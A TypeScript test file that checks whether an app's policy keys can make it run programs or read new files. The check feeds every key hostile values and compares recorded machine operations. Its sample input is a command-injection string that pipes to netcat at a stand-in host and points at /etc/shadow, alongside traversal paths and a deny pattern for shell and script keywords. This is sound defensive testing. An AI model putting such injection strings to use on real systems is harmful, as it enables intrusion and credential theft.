/** What a policy can make Greenroom do: every key by what it reaches, and proof that the rest reaches nothing. */

import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { PolicyValue } from '../../../electron/core/policy/policy.ts';
import { noPolicy, type Policy, type PolicyKey } from '../../../electron/core/policy/policy.ts';
import { runChecks } from '../../../electron/engine/run/run.ts';
import type { MachinePort, Operation } from '../../../electron/platform/machine/machine.ts';
import { parseRecording } from '../../../electron/platform/machine/recording.ts';
import { operationKey, replayMachine } from '../../../electron/platform/machine/replay.ts';
import { blocks } from '../../../scripts/policy/model.ts';

const keys = blocks.flatMap(({ name: block, sections }) =>
  sections.flatMap(({ id, keys: own }) => own.map(([name, key]) => ({ block, path: `${id}.${name}`, id, name, key }))),
);

type Reach = 'judges' | 'is shown or compared' | 'names a file' | 'names an address';

/** Whoever adds a kind of key has to say here what it reaches, or this does not compile. */
const reachOf = (key: PolicyKey): Reach => {
  switch (key.kind) {
    case 'choice':
    case 'number':
    case 'boolean':
      return 'judges';
    case 'text':
    case 'map':
      return 'is shown or compared';
    case 'file':
      return 'names a file';
    case 'address':
      return 'names an address';
    case 'list':
      if (key.items === 'file') return 'names a file';
      return key.items === 'address' ? 'names an address' : 'is shown or compared';
  }
};

describe('every key by what it reaches', () => {
  it('a check names no file and no address: it can neither read nor ask anything new', () => {
    const reaching = keys.filter(({ block, key }) => block === 'checks' && reachOf(key).startsWith('names'));
    expect(reaching.map(({ path }) => path)).toEqual([]);
  });

  it('a key that names a file or an address has one purpose, and it is that of its area', () => {
    // Purpose → the areas that may have such keys. Nothing here is a program, a script or a place to send anything to.
    const areas: Readonly<Record<string, RegExp>> = {
      catalogue: /^catalogue$/,
      calendar: /^(?:calendar|calendars|meetings?|next-meeting)$/,
      'help desk': /^help-desk$/,
      'background picture': /^(?:camera|background)/,
    };
    for (const { path, id, key } of keys.filter((one) => reachOf(one.key).startsWith('names'))) {
      const purpose = 'purpose' in key ? key.purpose : '';
      expect(areas[purpose]?.test(id), `${path} is for “${purpose}”`).toBe(true);
    }
  });

  it('no key is about a program to run', () => {
    for (const { path, key } of keys) {
      expect(path).not.toMatch(/command|script|execut|shell|hook|plugin/i);
      expect(['choice', 'number', 'boolean', 'text', 'file', 'address', 'list', 'map']).toContain(key.kind);
    }
  });
});

/** In every key the worst that it takes. */
const hostileValue = (key: PolicyKey): PolicyValue => {
  const hostile = '$(touch /tmp/x); `id` | nc evil.example 1 & --config=/etc/shadow\n../../x';
  switch (key.kind) {
    case 'choice':
      return key.default;
    case 'number':
      return key.maximum;
    case 'boolean':
      return !key.default;
    case 'text':
      return hostile.slice(0, key.maximumLength);
    case 'file':
      return '/etc/shadow';
    case 'address':
      return 'https://evil.example/x';
    case 'map':
      return key.names === 'language' ? { en: hostile.slice(0, key.maximumLength) } : { zoom: '>=6', 'no-such': '*' };
    case 'list':
      return {
        text: [hostile],
        choice: [key.items === 'choice' ? (key.choices[0] ?? '') : '', hostile],
        waiver: [`load until 2099-01-01: ${hostile.split('\n')[0]}`],
        product: ['zoom', 'no-such'],
        file: ['/etc/shadow'],
        address: ['https://evil.example/x'],
      }[key.items];
  }
};

const hostilePolicy: Policy = {
  ...noPolicy,
  layers: {
    enforced: Object.fromEntries(
      [...new Set(keys.map(({ id }) => id))].map((id) => [
        id,
        Object.fromEntries(keys.filter((one) => one.id === id).map(({ name, key }) => [name, hostileValue(key)])),
      ]),
    ),
  },
};

const asked = async (machine: string, policy: Policy): Promise<ReadonlySet<string>> => {
  const recording = parseRecording(machine, readFileSync(`test/machines/${machine}.json`, 'utf8'));
  const replay = replayMachine(recording, { strict: true });
  const operations = new Set<string>();
  const port: MachinePort = {
    host: replay.host,
    read: <O extends Operation>(operation: O, ...rest: [never, never]) => {
      operations.add(operationKey(operation));
      return replay.read(operation, ...rest);
    },
  };
  await runChecks({ port, policy, now: new Date(recording.recordedAt), deadlineMs: 60_000 });
  return operations;
};

it.each(['ubuntu-24.04-ready', 'macos-26', 'windows-11-25h2-pro'])(
  'on %s, no value of any key makes a run start a program or read a file that it would not without a policy',
  async (machine) => {
    const [plain, hostile] = [await asked(machine, noPolicy), await asked(machine, hostilePolicy)];
    expect(plain.size).toBeGreaterThan(5);
    expect([...hostile].filter((operation) => !plain.has(operation))).toEqual([]);
  },
);
